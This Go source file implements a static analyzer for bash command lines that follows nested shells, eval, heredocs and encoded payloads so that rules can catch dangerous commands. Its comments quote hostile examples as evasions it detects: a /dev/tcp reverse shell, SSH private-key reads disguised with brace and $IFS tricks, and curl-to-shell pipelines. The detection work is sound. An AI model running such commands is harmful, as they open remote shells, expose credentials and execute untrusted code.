package cmdrule

import (
	"fmt"
	"path"
	"regexp"
	"slices"
	"strings"

	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// Limits that keep crafted input (deeply nested bash -c, payloads that
// decode to more payloads) from turning analysis into a denial of service.
const (
	maxDepth  = 4
	maxParses = 32
)

// Command is the static analysis of one command line.
type Command struct {
	Source string
	// Calls lists every simple command found, including those nested in
	// substitutions, shell -c strings, eval and decoded payloads.
	Calls []*Call
}

// Call is one simple command.
type Call struct {
	// Program is the base name of argv[0] after unwrapping launchers
	// such as sudo, env and nohup; empty for assignment-only statements.
	Program string
	// Args holds the static text of each argument. Parts that cannot be
	// resolved statically appear as "$NAME" (parameters) or not at all
	// (command substitutions), and Dynamic is set.
	Args    []string
	Dynamic bool
	// Assigns holds NAME=value pairs set by the statement (including
	// export, declare, local and readonly).
	Assigns []string
	Redirs  []Redirect
	// Feeds lists the programs that consume this call's standard output:
	// later pipeline stages and the command whose argument or redirect
	// holds the process or command substitution around it.
	Feeds []string
	// Text is the source text of the simple command; for nested and
	// decoded calls it is taken from the nested or decoded script.
	Text string
	// Origin says how the call was reached: "" at top level, or
	// "shell -c", "eval", "heredoc", "base64" or "hex".
	Origin  string
	Depth   int
	Decoded bool // reached through a base64 or hex decoding

	hostList  []string // Hosts(Args), computed on first use
	hostsDone bool
	joined    *string // Args joined by spaces, computed on first use
}

// argline returns the arguments joined by spaces, computed once.
func (c *Call) argline() string {
	if c.joined == nil {
		s := strings.Join(c.Args, " ")
		c.joined = &s
	}
	return *c.joined
}

// hosts returns Hosts(c.Args), computed once: several rules ask.
func (c *Call) hosts() []string {
	if !c.hostsDone {
		c.hostList, c.hostsDone = Hosts(c.Args), true
	}
	return c.hostList
}

// Redirect is one redirection of a call.
type Redirect struct {
	Op     string // as written: ">", ">>", "<", "<>", ">&", "<<<", ...
	Target string // static text of the target word
	Write  bool
	Read   bool
}

// truncates reports whether the redirection empties its target first.
func (r Redirect) truncates() bool {
	switch r.Op {
	case ">", ">|", "&>", ">&":
		return r.Write
	}
	return false
}

// Parse analyses cmdline as a bash command line. Nested scripts that fail
// to parse are kept as a single whitespace-split call; only a failure at
// the top level is an error.
func Parse(cmdline string) (*Command, error) {
	return parse(syntax.NewParser(syntax.Variant(syntax.LangBash)), cmdline)
}

func parse(p *syntax.Parser, cmdline string) (*Command, error) {
	a := &analyzer{parser: p, vars: map[string]string{}, cmd: &Command{Source: cmdline}}
	if err := a.script(cmdline, scope{}); err != nil {
		return a.cmd, fmt.Errorf("cmdrule: parse %q: %w", truncate(cmdline, 80), err)
	}
	return a.cmd, nil
}

type analyzer struct {
	parser *syntax.Parser
	vars   map[string]string // statically known variable values
	cmd    *Command
	parses int
	// ifsSplit records that the word being read holds an unquoted $IFS,
	// which splits it into several words.
	ifsSplit bool
}

// scope is what the walk knows about the script being walked.
type scope struct {
	src     string
	depth   int
	origin  string
	decoded bool
	feeds   []string
}

func (a *analyzer) script(src string, sc scope) error {
	if sc.depth > maxDepth || a.parses >= maxParses {
		return nil
	}
	a.parses++
	sc.src = src
	f, err := a.parser.Parse(strings.NewReader(src), "")
	if err != nil {
		// Keep something to match on: the shell would likely reject the
		// line too, but a rule on the program and arguments may still apply.
		fields := strings.Fields(src)
		if len(fields) > 0 {
			a.add(&Call{Program: path.Base(fields[0]), Args: fields[1:], Text: src}, sc)
		}
		return err
	}
	for _, s := range f.Stmts {
		a.stmt(s, sc)
	}
	return nil
}

func (a *analyzer) add(c *Call, sc scope) {
	c.Origin, c.Depth, c.Decoded = sc.origin, sc.depth, sc.decoded
	if c.Feeds == nil {
		c.Feeds = sc.feeds
	}
	a.cmd.Calls = append(a.cmd.Calls, c)
}

func (a *analyzer) text(sc scope, from, to syntax.Pos) string {
	i, j := int(from.Offset()), int(to.Offset())
	if i < 0 || j > len(sc.src) || i > j {
		return ""
	}
	return sc.src[i:j]
}

// stmt walks one statement and returns its call when it is a simple
// command, so pipelines can relate neighbouring stages.
func (a *analyzer) stmt(s *syntax.Stmt, sc scope) *Call {
	switch x := s.Cmd.(type) {
	case *syntax.CallExpr:
		return a.call(s, x, sc)
	case *syntax.BinaryCmd:
		if x.Op == syntax.Pipe || x.Op == syntax.PipeAll {
			a.pipeline(s, sc)
		} else {
			a.stmt(x.X, sc)
			a.stmt(x.Y, sc)
		}
	case *syntax.Subshell:
		a.stmts(x.Stmts, sc)
	case *syntax.Block:
		a.stmts(x.Stmts, sc)
	case *syntax.DeclClause:
		c := &Call{Program: x.Variant.Value, Text: a.text(sc, s.Position, s.End())}
		for _, as := range x.Args {
			c.Assigns = append(c.Assigns, a.assign(as, sc))
		}
		c.Redirs = a.redirs(s.Redirs, c, sc)
		a.add(c, sc)
	case nil:
	default:
		syntax.Walk(x, func(n syntax.Node) bool {
			switch n := n.(type) {
			case *syntax.Stmt:
				a.stmt(n, sc)
				return false
			case *syntax.CmdSubst:
				a.stmts(n.Stmts, scope{src: sc.src, depth: sc.depth, origin: sc.origin, decoded: sc.decoded})
				return false
			case *syntax.ProcSubst:
				a.stmts(n.Stmts, scope{src: sc.src, depth: sc.depth, origin: sc.origin, decoded: sc.decoded})
				return false
			}
			return true
		})
	}
	if _, ok := s.Cmd.(*syntax.CallExpr); !ok && len(s.Redirs) > 0 {
		if _, ok := s.Cmd.(*syntax.DeclClause); !ok {
			// Redirections of compound commands, such as
			// "(sh -i) >& /dev/tcp/h/1", still need to be seen.
			c := &Call{Text: a.text(sc, s.Position, s.End())}
			c.Redirs = a.redirs(s.Redirs, c, sc)
			a.add(c, sc)
		}
	}
	return nil
}

func (a *analyzer) stmts(list []*syntax.Stmt, sc scope) {
	for _, s := range list {
		a.stmt(s, sc)
	}
}

func (a *analyzer) pipeline(s *syntax.Stmt, sc scope) {
	var stages []*syntax.Stmt
	var flatten func(*syntax.Stmt)
	flatten = func(s *syntax.Stmt) {
		if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && len(s.Redirs) == 0 &&
			(b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
			flatten(b.X)
			flatten(b.Y)
			return
		}
		stages = append(stages, s)
	}
	flatten(s)
	progs := make([][]string, len(stages))
	for i, st := range stages {
		progs[i] = a.stageProgs(st)
	}
	for i, st := range stages {
		// Output flows through every later stage, so "curl x | tee f | sh"
		// still feeds sh.
		var feeds []string
		for _, p := range progs[i+1:] {
			feeds = append(feeds, p...)
		}
		feeds = append(feeds, sc.feeds...)
		sub := sc
		sub.feeds = feeds
		a.stmt(st, sub)
	}
}

// stageProgs returns the programs a pipeline stage runs at its top level.
func (a *analyzer) stageProgs(st *syntax.Stmt) []string {
	var out []string
	syntax.Walk(st, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CallExpr:
			argv, _ := a.words(n.Args)
			if argv = unwrap(argv); len(argv) > 0 {
				prog := path.Base(argv[0])
				if !ignoresStdinCode(prog, argv[1:]) {
					out = append(out, prog)
				}
			}
			return false
		case *syntax.CmdSubst, *syntax.ProcSubst:
			return false
		}
		return true
	})
	return out
}

func (a *analyzer) call(s *syntax.Stmt, x *syntax.CallExpr, sc scope) *Call {
	c := &Call{Text: a.text(sc, s.Position, s.End())}
	for _, as := range x.Assigns {
		c.Assigns = append(c.Assigns, a.assign(as, sc))
	}
	argv, dyn := a.words(x.Args)
	c.Dynamic = dyn
	if len(x.Args) == 0 {
		// Only assignment-only statements change the shell's own
		// variables; "A=b cmd" sets A for cmd alone.
		for _, as := range x.Assigns {
			if as.Value != nil && !as.Append && as.Index == nil {
				if v, dyn := a.word(as.Value); !dyn {
					a.vars[as.Name.Value] = v
				}
			}
		}
	}
	if argv = unwrap(argv); len(argv) > 0 {
		c.Program, c.Args = path.Base(argv[0]), argv[1:]
	}
	c.Redirs = a.redirs(s.Redirs, c, sc)
	if c.Program == "tee" {
		c.Redirs = append(c.Redirs, teeRedirs(c.Args)...)
	}
	a.add(c, sc)

	// Substitutions inside arguments run before the call and, for <(...)
	// and $(...), hand their output to it.
	inner := scope{src: sc.src, depth: sc.depth, origin: sc.origin, decoded: sc.decoded}
	for _, w := range x.Args {
		a.substs(w, c.Program, inner)
	}
	a.nested(c, x.Args, sc)
	a.decodeArgs(c, sc)
	return c
}

func (a *analyzer) assign(as *syntax.Assign, sc scope) string {
	name := as.Name.Value
	if as.Value == nil {
		return name
	}
	v, _ := a.word(as.Value)
	a.substs(as.Value, "", scope{src: sc.src, depth: sc.depth, origin: sc.origin, decoded: sc.decoded})
	return name + "=" + v
}

func (a *analyzer) redirs(rs []*syntax.Redirect, c *Call, sc scope) []Redirect {
	var out []Redirect
	inner := scope{src: sc.src, depth: sc.depth, origin: sc.origin, decoded: sc.decoded}
	for _, r := range rs {
		rd := Redirect{Op: r.Op.String()}
		switch r.Op {
		case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.RdrAll, syntax.AppAll, syntax.DplOut:
			rd.Write = true
		case syntax.RdrInOut:
			rd.Write, rd.Read = true, true
		case syntax.RdrIn, syntax.DplIn:
			rd.Read = true
		}
		if r.Word != nil {
			rd.Target, _ = a.word(r.Word)
			consumer := ""
			if rd.Read {
				consumer = c.Program
			}
			a.substs(r.Word, consumer, inner)
		}
		// A here-document or here-string is the script when the program
		// is a shell, and a payload worth decoding otherwise.
		var body string
		static := false
		switch {
		case r.Hdoc != nil:
			var dyn bool
			body, dyn = a.word(r.Hdoc)
			static = !dyn
		case r.Op == syntax.WordHdoc && r.Word != nil:
			var dyn bool
			body, dyn = a.word(r.Word)
			static = !dyn
		}
		if static && body != "" {
			if isShell(c.Program) {
				sub := sc
				sub.depth++
				sub.origin = "heredoc"
				a.script(body, sub)
			} else {
				a.decodeText(body, sc)
			}
		}
		out = append(out, rd)
	}
	return out
}

// teeRedirs returns tee's file operands as the write redirections they
// amount to: "tee f" empties f like "> f", "tee -a f" appends like ">> f".
// Rules on redirect_out and redirect_truncate then cover tee as well.
func teeRedirs(args []string) []Redirect {
	op := ">"
	var files []string
	opts := true
	for _, a := range args {
		switch {
		case opts && a == "--":
			opts = false
		case opts && (a == "--append" || isShortFlags(a) && strings.IndexByte(a, 'a') > 0):
			op = ">>"
		case opts && strings.HasPrefix(a, "-") && a != "-":
		default:
			files = append(files, a)
		}
	}
	out := make([]Redirect, len(files))
	for i, f := range files {
		out[i] = Redirect{Op: op, Target: f, Write: true}
	}
	return out
}

// substs walks the command and process substitutions inside w.
func (a *analyzer) substs(w *syntax.Word, consumer string, sc scope) {
	if plainParts(w.Parts) {
		return // the common case; spares the walk and its closure
	}
	syntax.Walk(w, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CmdSubst:
			sub := sc
			if consumer != "" {
				sub.feeds = []string{consumer}
			}
			a.stmts(n.Stmts, sub)
			return false
		case *syntax.ProcSubst:
			sub := sc
			if consumer != "" && n.Op == syntax.CmdIn {
				sub.feeds = []string{consumer}
			}
			a.stmts(n.Stmts, sub)
			return false
		}
		return true
	})
}

// nested analyses the scripts a call runs from its arguments:
// "bash -c SCRIPT" and "eval ARGS...".
func (a *analyzer) nested(c *Call, words []*syntax.Word, sc scope) {
	sub := sc
	sub.depth++
	switch {
	case isShell(c.Program):
		for i, arg := range c.Args {
			if arg == "--" || !strings.HasPrefix(arg, "-") {
				break
			}
			if isShortFlags(arg) && strings.Contains(arg, "c") {
				// Find the first operand after the options.
				for _, s := range c.Args[i+1:] {
					if !strings.HasPrefix(s, "-") {
						sub.origin = "shell -c"
						a.script(s, sub)
						break
					}
				}
				return
			}
		}
	case c.Program == "eval" && len(c.Args) > 0:
		if !c.Dynamic {
			sub.origin = "eval"
			a.script(strings.Join(c.Args, " "), sub)
		}
	}
}

// maxBraceWords bounds the words one brace expansion may produce, so
// "{1..9}{1..9}{1..9}..." cannot blow up the analysis.
const maxBraceWords = 16

// words returns the static text of ws after brace expansion, which
// turns "{cat,~/.ssh/id_rsa}" into two words as bash does, and whether
// any part is only known at run time.
func (a *analyzer) words(ws []*syntax.Word) ([]string, bool) {
	out := make([]string, 0, len(ws))
	dyn := false
	for _, w := range ws {
		// Split a copy: syntax.Walk, used on the same tree later, does
		// not know the brace nodes SplitBraces inserts.
		if bw := (&syntax.Word{Parts: slices.Clone(w.Parts)}); hasBrace(w) && syntax.SplitBraces(bw) {
			n := 0
			for bw, err := range expand.BracesSeq(nil, bw) {
				if err != nil || n == maxBraceWords {
					break
				}
				t, d := a.word(bw)
				out, dyn, n = append(out, t), dyn || d, n+1
			}
			continue
		}
		a.ifsSplit = false
		t, d := a.word(w)
		if a.ifsSplit {
			out, dyn = append(out, strings.Fields(t)...), dyn || d
			continue
		}
		out, dyn = append(out, t), dyn || d
	}
	return out, dyn
}

func hasBrace(w *syntax.Word) bool {
	for _, p := range w.Parts {
		if l, ok := p.(*syntax.Lit); ok && strings.IndexByte(l.Value, '{') >= 0 {
			return true
		}
	}
	return false
}

// word returns the static text of w with quoting and escaping resolved,
// and whether some part of it can only be known at run time.
func (a *analyzer) word(w *syntax.Word) (string, bool) {
	if len(w.Parts) == 1 {
		if l, ok := w.Parts[0].(*syntax.Lit); ok && !strings.Contains(l.Value, `\`) {
			return l.Value, false
		}
	}
	var b strings.Builder
	dyn := false
	for _, p := range w.Parts {
		if a.part(&b, p, false) {
			dyn = true
		}
	}
	return b.String(), dyn
}

func (a *analyzer) part(b *strings.Builder, p syntax.WordPart, quoted bool) (dyn bool) {
	switch p := p.(type) {
	case *syntax.Lit:
		b.WriteString(unescape(p.Value, quoted))
	case *syntax.SglQuoted:
		if p.Dollar {
			b.WriteString(ansiC(p.Value))
		} else {
			b.WriteString(p.Value)
		}
	case *syntax.DblQuoted:
		for _, q := range p.Parts {
			if a.part(b, q, true) {
				dyn = true
			}
		}
	case *syntax.ParamExp:
		if p.Param == nil {
			return true
		}
		if p.Param.Value == "IFS" && simpleParam(p) {
			if _, set := a.vars["IFS"]; !set {
				// "cat${IFS}~/.ssh/id_rsa": the default IFS, and
				// unquoted it splits the word as a space would.
				b.WriteByte(' ')
				a.ifsSplit = a.ifsSplit || !quoted
				return false
			}
		}
		if simpleParam(p) {
			if v, ok := a.vars[p.Param.Value]; ok {
				b.WriteString(v)
				return false
			}
		}
		b.WriteString("$" + p.Param.Value)
		return true
	default:
		return true
	}
	return dyn
}

// plainParts reports whether parts are only literals and quoted
// literals, which hold no substitution.
func plainParts(parts []syntax.WordPart) bool {
	for _, p := range parts {
		switch p := p.(type) {
		case *syntax.Lit, *syntax.SglQuoted:
		case *syntax.DblQuoted:
			if !plainParts(p.Parts) {
				return false
			}
		default:
			return false
		}
	}
	return true
}

func simpleParam(p *syntax.ParamExp) bool {
	return !p.Excl && !p.Length && !p.Width && !p.IsSet && p.NestedParam == nil &&
		p.Index == nil && len(p.Modifiers) == 0 && p.Slice == nil && p.Repl == nil &&
		p.Exp == nil && p.Names == 0
}

// unescape removes backslash quoting as the shell does: outside quotes a
// backslash escapes any character; inside double quotes only $ ` " \ and
// newline.
func unescape(s string, quoted bool) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 == len(s) {
			b.WriteByte(s[i])
			continue
		}
		n := s[i+1]
		switch {
		case n == '\n':
			i++
		case !quoted || strings.IndexByte("$`\"\\", n) >= 0:
			b.WriteByte(n)
			i++
		default:
			b.WriteByte('\\')
		}
	}
	return b.String()
}

// ansiC expands the escapes of bash's $'...' quoting.
func ansiC(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 == len(s) {
			b.WriteByte(s[i])
			continue
		}
		i++
		switch c := s[i]; c {
		case 'a':
			b.WriteByte('\a')
		case 'b':
			b.WriteByte('\b')
		case 'e', 'E':
			b.WriteByte(0x1b)
		case 'f':
			b.WriteByte('\f')
		case 'n':
			b.WriteByte('\n')
		case 'r':
			b.WriteByte('\r')
		case 't':
			b.WriteByte('\t')
		case 'v':
			b.WriteByte('\v')
		case 'x':
			v, n := parseBase(s[i+1:], 16, 2)
			if n == 0 {
				b.WriteString(`\x`)
				continue
			}
			b.WriteByte(byte(v))
			i += n
		case 'u', 'U':
			max := 4
			if c == 'U' {
				max = 8
			}
			v, n := parseBase(s[i+1:], 16, max)
			if n == 0 {
				b.WriteByte('\\')
				b.WriteByte(c)
				continue
			}
			b.WriteRune(rune(v))
			i += n
		case '0', '1', '2', '3', '4', '5', '6', '7':
			v, n := parseBase(s[i:], 8, 3)
			b.WriteByte(byte(v))
			i += n - 1
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// parseBase parses up to max leading digits of s in base 8 or 16.
func parseBase(s string, base, max int) (v, n int) {
	for n < max && n < len(s) {
		d := digitVal(s[n])
		if d < 0 || d >= base {
			break
		}
		v = v*base + d
		n++
	}
	return v, n
}

func digitVal(c byte) int {
	switch {
	case '0' <= c && c <= '9':
		return int(c - '0')
	case 'a' <= c && c <= 'f':
		return int(c-'a') + 10
	case 'A' <= c && c <= 'F':
		return int(c-'A') + 10
	}
	return -1
}

func isShell(p string) bool {
	switch p {
	case "sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish":
		return true
	}
	return false
}

// isShortFlags reports whether arg is a cluster of single-letter options
// such as "-c" or "-lc".
func isShortFlags(arg string) bool {
	if len(arg) < 2 || arg[0] != '-' || arg[1] == '-' {
		return false
	}
	for i := 1; i < len(arg); i++ {
		c := arg[i]
		if !('a' <= c && c <= 'z' || 'A' <= c && c <= 'Z') {
			return false
		}
	}
	return true
}

// interpreter describes how an interpreter's short options read: code
// letters give it its program in the arguments (inline code, or a
// module or file for prog letters), valued letters take a value
// attached or as the next argument, attached letters only attached.
type interpreter struct{ code, prog, valued, attached string }

var interpreters = map[string]interpreter{
	"sh":     {code: "c", valued: "oO"},
	"python": {code: "c", prog: "m", valued: "WX"},
	"perl":   {code: "eE", attached: "MmIilF0CdDxV"},
	"ruby":   {code: "e", valued: "CIEr", attached: "0FWTXKxdl"},
	"php":    {code: "r", prog: "f", valued: "cdz"},
	"node":   {code: "ep", valued: "r"},
	"lua":    {code: "e", valued: "l"},
}

func interpreterOf(prog string) (interpreter, bool) {
	switch {
	case isShell(prog):
		return interpreters["sh"], true
	case prog == "nodejs" || prog == "deno" || prog == "bun":
		return interpreters["node"], true
	}
	in, ok := interpreters[strings.TrimRight(prog, "0123456789.")]
	return in, ok
}

// codeCallRE recognises inline code that runs what it reads, such as
// python -c "exec(sys.stdin.read())" or perl -e 'eval <STDIN>'.
var codeCallRE = regexp.MustCompile(`\b(exec|eval|system|popen|spawn|compile|Function|execSync|instance_eval)\b`)

// ignoresStdinCode reports whether a pipeline stage takes its program
// from its arguments (a script file, a module, inline code that does not
// evaluate its input), so that data piped into it is processed, not run:
// "curl x | python3 -m json.tool" is not "curl x | python3". Shells
// given -c keep counting: their script is analysed separately and may
// read standard input in ways this cannot see.
func ignoresStdinCode(prog string, args []string) bool {
	in, ok := interpreterOf(prog)
	if !ok {
		return false
	}
	shell := isShell(prog)
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "--":
			return i+1 < len(args) && !isStdinPath(args[i+1])
		case isStdinPath(a):
			return false
		case a == "--eval" || a == "--print" || a == "--command":
			return i+1 < len(args) && !codeCallRE.MatchString(args[i+1])
		case strings.HasPrefix(a, "--"):
		case len(a) > 1 && (a[0] == '-' || shell && a[0] == '+'):
			letters := a[1:]
		cluster:
			for j := 0; j < len(letters); j++ {
				l, rest := letters[j], letters[j+1:]
				switch {
				case shell && (l == 'c' || l == 's'):
					return false
				case strings.IndexByte(in.prog, l) >= 0:
					return true
				case strings.IndexByte(in.code, l) >= 0:
					code := rest
					if code == "" && i+1 < len(args) {
						code = args[i+1]
					}
					return !codeCallRE.MatchString(code)
				case strings.IndexByte(in.valued, l) >= 0:
					if rest == "" {
						i++ // the value is the next argument
					}
					break cluster
				case strings.IndexByte(in.attached, l) >= 0:
					break cluster // the rest of the cluster is the value
				}
			}
		default:
			return true // a script file
		}
	}
	return false
}

func isStdinPath(a string) bool {
	return a == "-" || a == "/dev/stdin" || a == "/dev/fd/0" || a == "/proc/self/fd/0"
}

// unwrap strips launchers that run their operand as a command, so that
// "sudo -u root env X=1 nohup curl ..." is seen as curl.
func unwrap(argv []string) []string {
	for range 6 {
		if len(argv) == 0 {
			return argv
		}
		var valued string // options that take a separate value
		switch path.Base(argv[0]) {
		case "sudo", "doas":
			valued = "ugCDprtUTh"
		case "env":
			valued = "uCS"
		case "nice":
			valued = "n"
		case "exec":
			valued = "a"
		case "timeout":
			valued = "sk"
		case "xargs":
			// "curl x | xargs -0 bash -c": the input becomes arguments
			// of the command xargs runs.
			valued = "IdEeLlnPsa"
		case "stdbuf", "nohup", "setsid", "builtin", "busybox":
		case "command":
			for _, a := range argv[1:] {
				if a == "-v" || a == "-V" {
					return argv // a lookup, not an execution
				}
			}
		default:
			return argv
		}
		prog := path.Base(argv[0])
		i := 1
		for i < len(argv) {
			s := argv[i]
			if s == "--" {
				i++
				break
			}
			if prog == "env" && strings.Contains(s, "=") && !strings.HasPrefix(s, "-") {
				i++
				continue
			}
			if !strings.HasPrefix(s, "-") || s == "-" {
				break
			}
			if len(s) == 2 && strings.IndexByte(valued, s[1]) >= 0 {
				i++
			}
			i++
		}
		if prog == "timeout" && i < len(argv) {
			i++ // the duration
		}
		argv = argv[i:]
	}
	return argv
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}
